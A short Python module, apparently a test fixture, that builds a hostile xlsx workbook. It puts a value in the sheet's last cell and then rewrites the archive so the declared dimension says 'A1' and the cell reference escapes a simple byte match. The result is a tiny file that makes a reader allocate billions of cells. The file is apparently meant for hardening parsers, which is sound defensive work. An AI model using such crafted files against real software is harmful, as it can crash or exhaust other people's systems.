"""A workbook of a few kilobytes that ends whoever reads it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl


def far_cell(path: Path) -> None:
    """A number in the last cell of a sheet, written as the look at its size does not expect it.

    A dense table of it has 17 thousand million cells; whoever lays it out asks for them.
    """
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "Registre"
    sheet["XFD1048576"] = 1
    honest = io.BytesIO()
    book.save(honest)
    with (
        zipfile.ZipFile(honest) as whole,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as lying,
    ):
        for name in whole.namelist():
            content = whole.read(name)
            content = content.replace(b'ref="A1:XFD1048576"', b'ref="A1"')
            lying.writestr(name, content.replace(b'r="XFD1048576"', b"r='XFD1048576'"))
